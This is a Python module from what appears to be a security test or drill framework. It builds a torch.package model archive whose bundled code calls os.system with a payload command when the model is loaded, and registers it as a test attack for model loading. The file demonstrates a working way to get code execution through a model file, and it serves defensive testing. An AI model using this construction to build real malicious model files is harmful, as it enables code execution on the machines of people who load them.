"""A torch.package archive, which brings its own code."""

from __future__ import annotations

import zipfile
from pathlib import Path

from veristep.drill.attack import Attack
from veristep.drill.load import payload


def _plant(folder: Path) -> Path:
    path = folder / "model.package"
    code = f"import os\nos.system({payload.COMMAND!r})\nclass Net(dict): ...\n"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, data in (
            (".data/extern_modules", "os\n"),
            (".data/version", "6\n"),
            (".data/python_version", "3.11\n"),
            ("byteorder", "little"),
            ("nets.py", code),
            ("model/model.pkl", b"\x80\x02cnets\nNet\n)\x81."),
        ):
            archive.writestr(f"{path.stem}/{name}", data)
    load = "PackageImporter(path).load_pickle('model', 'model.pkl')"
    return payload.script(folder, path, load, "from torch.package import PackageImporter")


ATTACK = Attack(
    "torch.package",
    "a package archive whose module calls the shell when a model is loaded from it",
    "LOAD004",
    _plant,
    incident=(8,),
)
